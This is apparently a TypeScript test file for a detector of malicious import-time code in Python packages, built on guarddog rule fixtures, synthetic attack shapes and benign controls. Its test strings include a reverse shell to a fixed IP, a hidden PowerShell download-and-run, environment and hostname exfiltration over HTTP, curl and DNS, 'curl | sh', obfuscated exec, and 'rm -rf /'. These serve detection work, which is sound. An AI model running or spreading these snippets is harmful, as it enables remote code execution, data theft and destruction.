/**
 * The import-time code classifier (src/checks/lib/import-code.ts) on labelled real-world-derived
 * snippets: DataDog/guarddog's rule tests (fixtures/import-code/guarddog/, fixtures/PROVENANCE.md),
 * cut into cases at their `# ruleid:` / `# ok:` annotations — every `ruleid` case must be
 * flagged, every `ok` case must be clean — and real benign module code as controls.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { IMPORT_FLAGS, MAX_CALLS, packageImports, readImportCode } from '../../src/checks/lib/import-code.js';

const GUARDDOG = new URL('../../fixtures/import-code/guarddog/', import.meta.url);

interface Case {
  file: string;
  line: number;
  label: 'ruleid' | 'ok';
  text: string;
}

/**
 * A rule test file cut into cases: each case runs from the end of the one before to the first
 * blank line after its annotation (so it holds the assignments its statement uses). A file
 * without annotations is one `ruleid` case (guarddog's `threat-*` positives).
 */
function casesOf(file: string): Case[] {
  const lines = readFileSync(new URL(file, GUARDDOG), 'utf8').split('\n');
  const annotated = lines.flatMap((l, i) => {
    const m = /^\s*#\s*(ruleid|ok):/.exec(l);
    return m === null ? [] : [{ line: i, label: m[1] as 'ruleid' | 'ok' }];
  });
  if (annotated.length === 0) return [{ file, line: 1, label: 'ruleid', text: lines.join('\n') }];
  const blank = (i: number): boolean => (lines[i] ?? '').trim() === '';
  const cases: Case[] = [];
  let previousEnd = 0;
  annotated.forEach(({ line, label }, k) => {
    const next = annotated[k + 1]?.line ?? lines.length;
    // The end: a blank line followed by top-level code (a function's body stays whole; a lone
    // `import` line is not the statement the annotation is about).
    let end = line + 1;
    while (end < next && !(blank(end) && /^\S/.test(lines[end + 1] ?? '') && !lines.slice(line + 1, end).every((l) => /^\s*(?:import|from)\s/.test(l)))) end += 1;
    // The start: the top-level block the annotation is in (with the assignments it uses); an
    // `ok` case never takes in the case before it.
    let start = line;
    while (start > 0 && !(blank(start - 1) && /^\S/.test(lines[start] ?? ''))) start -= 1;
    if (label === 'ok') start = Math.max(start, previousEnd);
    cases.push({ file, line: line + 1, label, text: lines.slice(start, end).join('\n') });
    previousEnd = end;
  });
  return cases;
}

/**
 * guarddog cases left out, by file and annotation line, with the reason: the snippet shows
 * nothing a reader of the text could call malicious (guarddog's rule matches its own layout), or
 * only a capability ordinary libraries have, without what would make it harm.
 */
const LEFT_OUT: Record<string, string> = {
  'obfuscation.py:41': 'the case is `i = 0; print("malicious code here")` — a placeholder with no code to judge',
  'clipboard-access.py:10': 'the cut stops before the clipboard write: a read and a wallet-address test alone',
  'clipboard-access.py:26': 'a clipboard read handed to a function the snippet does not define (pyperclip and pandas read the clipboard too)',
  'clipboard-access.py:43': 'a clipboard read handed to a function the snippet does not define',
  'clipboard-access.py:47': 'a clipboard write, the data handed to a function the snippet does not define',
  'dll-hijacking.py:177': 'ctypes loading a file of the package as a library: what CFFI and ctypes packages do',
};

const FILES = readdirSync(GUARDDOG).filter((f) => f.endsWith('.py')).sort();
const CASES = FILES.flatMap(casesOf).filter((c) => LEFT_OUT[`${c.file}:${c.line}`] === undefined);

describe('guarddog\'s labelled snippets', () => {
  it('are all there: thirteen rule files, with both labels', () => {
    expect(FILES).toHaveLength(13);
    expect(CASES.filter((c) => c.label === 'ruleid').length).toBe(78);
    expect(CASES.filter((c) => c.label === 'ok').length).toBe(13);
  });

  it.each(CASES.filter((c) => c.label === 'ruleid').map((c) => [`${c.file}:${c.line}`, c] as const))('%s (ruleid) is flagged', (_, c) => {
    expect(readImportCode(c.text).flags).not.toEqual([]);
  });

  it.each(CASES.filter((c) => c.label === 'ok').map((c) => [`${c.file}:${c.line}`, c] as const))('%s (ok) is clean', (_, c) => {
    expect(readImportCode(c.text).flags).toEqual([]);
  });
});

describe('what each flag is for', () => {
  it.each([
    ['exec-decoded', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'],
    ['download-and-run', 'import requests\npayload = requests.get("http://x.test/s").text\nexec(payload)\n'],
    ['exfiltration', 'import requests, os\nrequests.post("https://x.test", json=dict(os.environ))\n'],
    ['exfiltration', 'import getpass as _g, urllib.request as _u\nd = {"u": _g.getuser()}\n_u.urlopen(_u.Request("https://x.test", data=str(d).encode()))\n'],
    ['silent-process', 'import subprocess\nsubprocess.Popen(["pythonw", "x.py"], creationflags=subprocess.CREATE_NO_WINDOW)\n'],
    // GuardDog's code-execution.py case (DataDog/guarddog, tests/analyzer/sourcecode, Apache-2.0): PowerShell's `-window` prefix of -WindowStyle.
    ['silent-process', `import os\nos.system("powershell -window hidden -executionpolicy bypass (New-object system.net.webclient).DownloadFile('http://bit.ly/2myCV9n',$env:APPDATA+'\\Main.exe'); Start-Process $env:APPDATA'\\Main.exe'")\n`],
    ['silent-process', 'import subprocess\nsubprocess.run(["powershell", "-enc", "SQBFAFgA"])\n'],
    ['exec-decoded', 'from subprocess import run\nimport base64\nrun(["python", "-c", base64.b64decode(CODE)])\n'],
    ['dynamic-import', 'm = __import__("so"[::-1])\n'],
    ['obfuscation', '___ = eval\n'],
    // GuardDog's code-execution.py cases: exec/eval/compile taken out of the builtins' dictionary.
    ['obfuscation', 'vars(__builtins__)[\'exec\']("subprocess.call(\'/tmp/malware\')")\n'],
    ['obfuscation', 'vars(globals()[\'__builtins__\'])[\'eval\']("subprocess.Popen(\'backdoor\', shell=True)")\n'],
    ['obfuscation', 'vars(__builtins__).get(\'compile\')("os.system(\'rm -rf /\')", \'<string>\', \'exec\')\n'],
    // GuardDog's unicode.py case: exec spelled in mathematical monospace letters (Python reads it as exec).
    ['obfuscation', 'def f():\n    \u{1D68E}\u{1D6A1}\u{1D68E}\u{1D68C}("import os")\n'],
    ['obfuscation', 'import \uFF4F\uFF53\n\uFF4F\uFF53.system("id")\n'],
    ['encoded-blob', `import marshal\nexec(marshal.loads(DATA))\nDATA = "${'QUJD'.repeat(300)}"\n`],
  ] as const)('%s', (label, text) => {
    const reading = readImportCode(text);
    expect(reading.flags).toContain(label);
    expect(reading.excerpts.length).toBeGreaterThan(0);
  });

  it('a reverse shell (synthetic, the shape of the published one-liners): socket wired to /bin/sh', () => {
    const text = [
      'import socket, os, pty',
      's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
      's.connect(("203.0.113.9", 4444))',
      'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)',
      'pty.spawn("/bin/sh")',
    ].join('\n');
    expect(readImportCode(text).flags).toEqual(['reverse-shell']);
  });

  it('flags come in IMPORT_FLAGS order and excerpts are short single lines', () => {
    const reading = readImportCode(`import requests, os, base64\nexec(base64.b64decode(requests.get("http://x.test").text))\nrequests.post("https://x.test", data=os.environ.copy() if False else str(os.environ))${' '.repeat(400)}\n`);
    expect(reading.flags).toEqual(IMPORT_FLAGS.filter((f) => reading.flags.includes(f)));
    expect(reading.flags).toEqual(['exfiltration', 'download-and-run', 'exec-decoded']);
    expect(reading.excerpts.every((e) => e.length <= 160 && !e.includes('\n'))).toBe(true);
  });
});

describe('the modules a package\'s __init__.py imports from itself', () => {
  it('relative and absolute forms, parenthesised lists, aliases; other packages and parents left out', () => {
    const text = [
      'from .app import Flask as Flask',
      'from . import json, views as _v',
      'from . import (',
      '    signals,',
      '    typing,',
      ')',
      'from pkg.sansio.app import App',
      'import pkg.cli',
      'from .. import parent',
      'from werkzeug import Response',
      'import os',
      'try:',
      '    from ._speedups import fast',
      'except ImportError:',
      '    pass',
    ].join('\n');
    expect(packageImports(text, 'pkg')).toEqual(['app', 'json', 'views', 'signals', 'typing', '_speedups', 'sansio.app', 'cli']);
  });
});

describe('a text padded with calls', () => {
  it('past MAX_CALLS the reading is not complete and says so with `padded`; a flag found before stays', () => {
    const padding = 'eval("1")\n'.repeat(MAX_CALLS + 1);
    expect(readImportCode(padding)).toMatchObject({ flags: ['padded'], excerpts: [`more than ${MAX_CALLS} calls`], complete: false });
    expect(readImportCode(`import base64\nexec(base64.b64decode("eA=="))\n${padding}`)).toMatchObject({ flags: ['exec-decoded', 'padded'], complete: false });
    expect(readImportCode('eval("1")\n'.repeat(MAX_CALLS)).complete).toBe(true);
  });
});

describe('techniques of real malicious uploads (synthetic snippets of their shapes)', () => {
  it.each([
    // A dependency-confusion probe: a request to a request catcher at import, nothing sent.
    ['catcher-endpoint', 'import requests\nresponse = requests.get("https://abc123.oast.fun")\n'],
    ['catcher-endpoint', 'import requests\nURL = "https://webhook.site/0b19-57da"\nwith open("/flag.txt") as f:\n    flag = f.read()\nrequests.post(URL, data={"flag": flag})\n'],
    // The catcher's name looked up by DNS, the name held in a variable.
    ['catcher-endpoint', 'import socket\nCANARY = "k3j4.canarytokens.com"\nsocket.gethostbyname(CANARY)\n'],
    // curl started as a process: the catcher in its command line, host data sent through it.
    ['catcher-endpoint', 'import subprocess\nsubprocess.run(["curl", "https://webhook.site/c33c"])\n'],
    ['exfiltration', 'import os, subprocess\nenv = os.environ\nbody = "&".join(f"{k}={v}" for k, v in env.items())\ncmd = ["curl", "-X", "POST", "-d", body, "http://x.test"]\nsubprocess.run(cmd, check=True)\n'],
    // The host's name looked up under a catcher's domain: DNS exfiltration.
    ['exfiltration', 'import socket\nhost = socket.gethostname()\nname = f"{host}.w0xm0b.oastify.com"\nsocket.gethostbyname(name)\n'],
    // Sent over a socket whose name is not `s` or `sock`.
    ['exfiltration', 'import socket, platform\ninfo = ("OS:", platform.uname())\nclientSocket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nclientSocket.connect(("x.test", 80))\nclientSocket.send(str(info).encode())\n'],
    // Host data followed through a longer chain of assignments (encoded before it is sent).
    ['exfiltration', 'import os, base64, requests\nhost = os.uname()[1]\ndata = "a," + host\nmessage = data\nraw = message.encode("ascii")\nencoded = base64.b64encode(raw)\ntext = encoded.decode("ascii")\nrequests.get("https://x.test?q=" + text)\n'],
    // Decoded by the module's own helper before a process runs it.
    ['exec-decoded', 'import base64, os\ndef b64d(code):\n    raw = base64.b64decode(code.encode("ascii"))\n    return raw.decode("ascii")\nos.system(b64d("ZGly"))\n'],
    // A program downloaded by curl and started; a download piped into a shell; curl's output run.
    ['download-and-run', 'import os\nos.system(\'"curl.exe -OLJ https://x.test/raw/a.exe"\')\nos.system(\'"a.exe -w 1"\')\n'],
    ['download-and-run', 'import subprocess\nsubprocess.run("curl -fsSL https://x.test/i | sh", shell=True)\n'],
    ['download-and-run', 'import subprocess\nbanner = subprocess.getoutput("curl http://x.test/m.html")\nsubprocess.getoutput(str(banner))\n'],
    // A builtin's name spelled with letters picked out of other objects' text (chr, here).
    ['obfuscation', "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [112, 105]))\n"],
  ] as const)('%s', (label, text) => {
    expect(readImportCode(text).flags).toContain(label);
  });

  it.each([
    ['a request to an ordinary API', 'import requests\nresponse = requests.get("https://api.example.org/v1/status")\n'],
    ['curl fetching a file, no host data', 'import subprocess\nsubprocess.run(["curl", "-L", "-o", "data.json", "https://example.org/data.json"])\n'],
    ['curl\'s version read and printed', 'import subprocess\nv = subprocess.check_output(["curl", "--version"])\nprint(v)\nsubprocess.run(["git", "status"])\n'],
    ['wget saving an archive that is unpacked', 'import subprocess\nsubprocess.run(["wget", "https://x.test/src.tar.gz"])\nsubprocess.run(["tar", "xzf", "src.tar.gz"])\n'],
    ['a DNS lookup of a configured host', 'import socket\nHOST = "db.internal.example.org"\nsocket.gethostbyname(HOST)\n'],
    ['a helper that decodes data only printed', 'import base64\ndef b64d(s):\n    return base64.b64decode(s).decode()\nprint(b64d("aGk="))\n'],
    ['a helper that decodes, a process given other data', 'import base64, subprocess\ndef b64d(s):\n    return base64.b64decode(s)\nsubprocess.run(["git", "status"])\n'],
    ['a local function named like a process call, a decoder elsewhere', 'import base64\ndef check_output(resp):\n    print(resp)\ndef load(a):\n    return base64.b64decode(a)\nresponse = {}\ncheck_output(response)\n'],
    ['getattr on builtins by a plain name', 'import builtins\nname = "open"\nf = getattr(builtins, name)\ng = getattr(__builtins__, "print")\n'],
    ['a class name and a docstring indexed apart', 'first = cls.__name__[0] + "_"\nsummary = f.__doc__[:40]\n'],
  ])('clean: %s', (_, text) => {
    expect(readImportCode(text).flags).toEqual([]);
  });
});

describe('ordinary library code stays clean', () => {
  it.each([
    ['an HTTP client that reads proxies from the environment and sends requests', 'import os, requests\nproxies = {k: v for k, v in os.environ.items() if k.lower().endswith("_proxy")}\ndef fetch(url):\n    return requests.get(url, proxies=proxies, timeout=5)\n'],
    ['a CLI that runs git and downloads a file', 'import subprocess, urllib.request\nrev = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode("utf-8")\nurllib.request.urlretrieve("https://example.org/data.json", "data.json")\n'],
    ['a version read by exec of a file', 'ns = {}\nexec(open("pkg/_version.py").read(), ns)\n'],
    ['re.compile and a bytes literal decoded as UTF-8', 'import re\nPATTERN = re.compile(b"\\\\xff\\\\xfe".decode("latin-1"))\nexec(compile(src.decode("utf-8"), path, "exec"))\n'],
    ['a plugin loader importing a configured name', 'import os\nmod = __import__(os.environ.get("PLUGIN", "default_plugin"))\n'],
    ['the hostname resolved to the local address', 'import socket\naddress = socket.gethostbyname(socket.gethostname())\n'],
    ['the builtins\' names listed (zope.interface, sympy do this)', 'import builtins\nNAMES = set(vars(builtins).values())\nGLOBALS = vars(__builtins__).copy()\n'],
    ['mathematical letters that spell no code name', 'def f():\n    \u{1D6FC} = 1\n    return "\u{1D400}\u{1D401}"\n'],
    ['a ligature in a comment', 'x = 1  # the \uFB01le is read\n'],
  ])('%s', (_, text) => {
    expect(readImportCode(text).flags).toEqual([]);
  });
});

describe('PowerShell parameters a reader must take by prefix', () => {
  it.each([
    ['-WindowStyle Hidden', 'powershell -WindowStyle Hidden -File x.ps1', true],
    ['-win hidden', 'powershell -win hidden -File x.ps1', true],
    ['-w hidden', 'powershell -w hidden -File x.ps1', true],
    ['-EncodedCommand', 'powershell -EncodedCommand SQBFAFgA', true],
    ['-e', 'powershell -e SQBFAFgA', true],
    ['a visible window', 'powershell -WindowStyle Normal -File build.ps1', false],
    ['-ExecutionPolicy alone', 'powershell -ExecutionPolicy Bypass -File build.ps1', false],
    ['a -wx flag of another word', 'powershell -wx hidden', false],
  ] as const)('%s', (_label, command, silent) => {
    const flags = readImportCode(`import subprocess\nsubprocess.run(${JSON.stringify(command)}, shell=True)\n`).flags;
    expect(flags.includes('silent-process')).toBe(silent);
  });
});

describe('a saved download run as a program', () => {
  // python-parasail 1.3.3's setup.py (fixtures/setup-py/parasail.setup.py, fixtures/PROVENANCE.md)
  // downloads GNU autotools' source tarballs with urlretrieve, unpacks them in Python and runs
  // ./configure and make in the unpacked directory: an ordinary build, not the download run.
  const PARASAIL = readFileSync(new URL('../../fixtures/setup-py/parasail.setup.py', import.meta.url), 'utf8');
  /** parasail's setup.py with its `untar(tarball)` line replaced: an edit. */
  const parasailEdit = (replacement: string): string => {
    expect(PARASAIL).toContain('            untar(tarball)\n');
    return PARASAIL.replace('            untar(tarball)\n', `            ${replacement}\n`);
  };

  /** parasail's setup.py with its `urlretrieve(url, tarball)` line replaced by another way of saving the download: an edit. */
  const parasailSavedBy = (lines: string[]): string => {
    const original = '                    name,hdrs = urlretrieve(url, tarball)\n';
    expect(PARASAIL).toContain(original);
    return PARASAIL.replace(original, lines.map((l) => `                    ${l}\n`).join(''));
  };
  const SAVES = [
    ['pathlib.Path(tarball).write_bytes', ['pathlib.Path(tarball).write_bytes(requests.get(url).content)']],
    ['wget.download with out=', ['wget.download(url, out=tarball)']],
    ['wget.download with a positional path', ['name = wget.download(url, tarball)']],
    ['a streamed requests.get written chunk by chunk', ['r = requests.get(url, stream=True)', "with open(tarball, 'wb') as f:", '    for chunk in r.iter_content(chunk_size=8192):', '        f.write(chunk)']],
  ] as const;

  it('the real parasail setup.py: a downloaded source archive unpacked and built is not a finding', () => {
    expect(readImportCode(PARASAIL).flags).toEqual([]);
  });

  it.each([
    ['parasail, edited: the tarball unpacked by tar instead of Python', 'subprocess.check_call(["tar", "xzf", tarball])', []],
    ['parasail, edited: the tarball checked by sha256sum', 'os.system("sha256sum " + tarball)', []],
    ['parasail, edited: the tarball itself started', 'subprocess.call([os.path.abspath(tarball)])', ['download-and-run']],
    ['parasail, edited: the tarball started from a command line', 'os.system("./{}".format(tarball))', ['download-and-run']],
    ['parasail, edited: the tarball handed to a shell', 'subprocess.call(["sh", tarball])', ['download-and-run']],
    ['parasail, edited: the tarball made executable', 'os.chmod(tarball, 0o755)', ['download-and-run']],
  ] as const)('%s', (_name, line, flags) => {
    expect(readImportCode(parasailEdit(line)).flags).toEqual(flags);
  });

  it.each(SAVES)('parasail, edited: the tarball saved by %s and unpacked: clean', (_name, lines) => {
    expect(readImportCode(parasailSavedBy([...lines])).flags).toEqual([]);
  });

  it.each(SAVES)('parasail, edited: the tarball saved by %s and handed to a shell: download-and-run', (_name, lines) => {
    const text = parasailSavedBy([...lines]);
    expect(text).toContain('            untar(tarball)\n');
    expect(readImportCode(text.replace('            untar(tarball)\n', '            subprocess.call(["sh", tarball])\n')).flags).toEqual(['download-and-run']);
  });

  // Synthetic, each the smallest form of one way a download reaches a process.
  it.each([
    ['urlretrieve to a relative name, run as ./name', 'import urllib.request, subprocess\nurllib.request.urlretrieve(url, "a")\nsubprocess.call(["./a"])\n'],
    ['the path through two names', 'p = "/tmp/a"\nurlretrieve(u, p)\nexe = p\nsubprocess.call([exe, "-q"])\n'],
    ['the literal path of a name, run by its literal', 'dst = "/tmp/a"\nurlretrieve(u, dst)\nos.system("/tmp/a &")\n'],
    ['the name urlretrieve returns, made executable by a shell chmod', 'fn, _ = urlretrieve(u)\nos.system(f"chmod +x {fn}")\n'],
    ['requests content written with open(…, "wb"), run through a command list', 'r = requests.get(u)\nwith open(dst, "wb") as f:\n    f.write(r.content)\ncmd = ["./" + dst]\nsubprocess.Popen(cmd)\n'],
    ['urlopen copied with shutil.copyfileobj, given to the interpreter', 'with urlopen(u) as resp, open(dst, "wb") as out:\n    shutil.copyfileobj(resp, out)\nsubprocess.Popen([sys.executable, dst])\n'],
    ['a chained write, started by os.startfile', 'data = urlopen(u).read()\nopen(path, "wb").write(data)\nos.startfile(path)\n'],
    ['after `start /B` on Windows', 'urlretrieve(u, "x.bin")\nos.system("start /B x.bin")\n'],
    ['os.execv of the saved path', 'urlretrieve(u, target)\nos.execv(target, [target])\n'],
    ['a process function imported by name', 'from subprocess import call\nurlretrieve(u, "a")\ncall(["./a"])\n'],
    ['os.system imported under another name', 'from os import (\n    path,\n    system as _s,\n)\nurlretrieve(u, "a")\n_s("./a")\n'],
    ['a name holding a joined Path, written with write_bytes and started', 'r = requests.get(u)\ntarget = Path(tempfile.gettempdir()) / "x.exe"\ntarget.write_bytes(r.content)\nsubprocess.Popen([str(target)])\n'],
    ['a joined Path written in place, run by its file name', '(Path.home() / "run.exe").write_bytes(requests.get(u).content)\nsubprocess.call("run.exe")\n'],
    ['Path.write_text of a download, then Path.chmod', 't = pathlib.Path("/tmp/a")\nt.write_text(requests.get(u).text)\nt.chmod(t.stat().st_mode | stat.S_IEXEC)\n'],
    ['wget.download named by its URL, started by os.startfile', 'wget.download("https://example.invalid/evil.exe")\nos.startfile("evil.exe")\n'],
    ['the path wget.download returns, given to the interpreter', 'name = wget.download(u)\nsubprocess.run([sys.executable, name])\n'],
    ['a session stream\'s iter_content written to a handle opened before the loop', 'r = session.get(u, stream=True)\nwith open(dst, "wb") as f:\n    for c in r.iter_content(1024):\n        f.write(c)\nsubprocess.call(dst)\n'],
    ['urllib3 PoolManager data written and run', 'http = urllib3.PoolManager()\nresp = http.request("GET", u)\nwith open("/tmp/u", "wb") as f:\n    f.write(resp.data)\nsubprocess.call("/tmp/u")\n'],
    ['http.client getresponse data written and run from a shell line', 'c = http.client.HTTPSConnection(h)\nc.request("GET", "/p")\ndata = c.getresponse().read()\nopen("/tmp/h", "wb").write(data)\nos.system("chmod +x /tmp/h && /tmp/h")\n'],
    ['a Path opened with open("wb"), started', 'r = requests.get(u)\nexe = Path(d) / "a.bin"\nwith exe.open("wb") as f:\n    f.write(r.content)\nsubprocess.call([str(exe)])\n'],
    ['a requests.Session response written and run', 's = requests.Session()\nr = s.get(u)\nwith open(dst, "wb") as f:\n    f.write(r.content)\nos.system(dst)\n'],
    ['an httpx.Client response written with mode "xb" and run', 'c = httpx.Client()\nopen("/tmp/z", "xb").write(c.get(u).content)\nsubprocess.call("/tmp/z")\n'],
  ])('%s: download-and-run', (_name, text) => {
    expect(readImportCode(text).flags).toEqual(['download-and-run']);
  });

  it.each([
    // GuardDog's download-executable.py:156 `ok` case has this shape (echo of the written name).
    ['the saved name only echoed', 'response = requests.get(URL)\nopen("exo.txt", "wb").write(response.content)\nos.system("echo exo.txt")\n'],
    ['a file written with local bytes, then run', 'with open(dst, "wb") as f:\n    f.write(b"x")\nos.system("./" + dst)\nurlopen(u)\n'],
    ['a download verified by gpg', 'urlretrieve(u, "a.tgz")\nsubprocess.check_call(["gpg", "--verify", "a.tgz.asc", "a.tgz"])\n'],
    ['a download made read-only', 'urlretrieve(u, "a")\nos.chmod("a", 0o644)\n'],
    ['another file run', 'urlretrieve(u, "data.json")\nsubprocess.call(["./build.sh"])\n'],
    ['a function of its own named call', 'def call(x):\n    pass\nurlretrieve(u, "a")\ncall(["./a"])\n'],
    ['a Path written with local text, then run', 't = Path("/tmp/x.sh")\nt.write_text("echo hi")\nsubprocess.call(["sh", str(t)])\nrequests.get(u)\n'],
    ['a downloaded Path made read-only by Path.chmod', 't = Path("/tmp/a")\nt.write_bytes(requests.get(u).content)\nt.chmod(0o644)\n'],
    ['a download saved beside a directory\'s script that is run', '(d / "data.json").write_text(requests.get(u).text)\nsubprocess.call([str(d / "run.sh")])\n'],
    ['a Path opened with open("wb"): its mode is not a file name', 'r = requests.get(u)\nwith exe.open("wb") as f:\n    f.write(r.content)\nsubprocess.call(["wb"])\n'],
    ['a session response written, another program run', 's = requests.Session()\nr = s.get(u)\nwith open(dst, "wb") as f:\n    f.write(r.content)\nos.system("make")\n'],
    ['wget.download of a data file, another script run', 'wget.download(u, out="data.csv")\nsubprocess.call(["python", "process.py"])\n'],
  ])('%s: clean', (_name, text) => {
    expect(readImportCode(text).flags).toEqual([]);
  });
});
